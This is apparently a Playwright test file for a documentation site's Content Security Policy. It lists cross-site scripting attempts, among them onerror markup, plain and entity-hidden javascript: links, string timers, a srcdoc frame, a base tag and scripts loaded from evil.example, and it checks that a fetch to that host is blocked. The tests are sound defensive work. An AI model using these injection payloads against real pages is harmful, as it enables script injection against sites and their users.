import {expect, open, test} from './support/site';

/** What an attacker would try who can run one line of script, or put text into a page. */
const attempts: Record<string, string> = {
  'markup with a handler': `document.body.innerHTML = '<img src=x onerror="window.taken = true">'`,
  'a script as text': `const s = document.createElement('script'); s.text = 'window.taken = true'; document.body.append(s)`,
  'a link that is a script': `document.body.innerHTML = '<a href="javascript:window.taken = true">x</a>'`,
  'a hidden link that is a script': `document.body.innerHTML = '<a href="java&#115;cript:window.taken = true">x</a>'`,
  'text that is code': `setTimeout('window.taken = true')`,
  'a script of another host': `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
  'a frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.taken = true</script>'; document.body.append(f)`,
  'a base for links': `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (document.baseURI.includes('evil')) window.taken = true`,
};

test.describe('the policy of a page stops', () => {
  for (const [name, code] of Object.entries(attempts)) {
    test(name, async ({page, violations}) => {
      await open(page, '/docs/intro/');
      // What a test runs is not bound by the policy; what it makes the page do is.
      await page.evaluate(`(() => { ${code} })()`).catch(() => undefined);
      await expect.poll(() => violations.length).toBeGreaterThan(0);
      expect(await page.evaluate(() => 'taken' in window)).toBe(false);
      violations.length = 0;
    });
  }
});

test(
  'what it sends by fetch to another host does not leave the browser',
  {tag: '@quick'},
  async ({page, violations}) => {
    await open(page, '/docs/intro/');
    const outcome = await page.evaluate(() => fetch('https://evil.example/').then(String, (error) => error.name));
    expect(outcome).toBe('TypeError');
    expect(violations.splice(0).join()).toContain('connect-src');
  },
);

test('data that holds markup stays data wherever it is put', async ({page}) => {
  await open(page, '/docs/intro/');
  const text = await page.evaluate(() => {
    document.body.innerHTML = JSON.stringify('<img src=x onerror="window.taken = true">');
    return document.body.textContent;
  });
  expect(text).toContain('img src=x');
  await expect(page.locator('body *')).toHaveCount(0);
});

test('markup and data of the site itself pass the check', {tag: '@quick'}, async ({page}) => {
  await open(page, '/docs/intro/');
  const written = await page.evaluate(() => {
    const place = document.createElement('div');
    place.innerHTML = '<span class="token">csf -r</span> <a href="/docs/">Docs</a><br>';
    const data = document.createElement('script');
    data.type = 'application/ld+json';
    data.innerHTML = '{"name": "a < b"}';
    document.head.append(data);
    return [place.textContent, JSON.parse(data.text).name];
  });
  expect(written).toEqual(['csf -r Docs', 'a < b']);
});
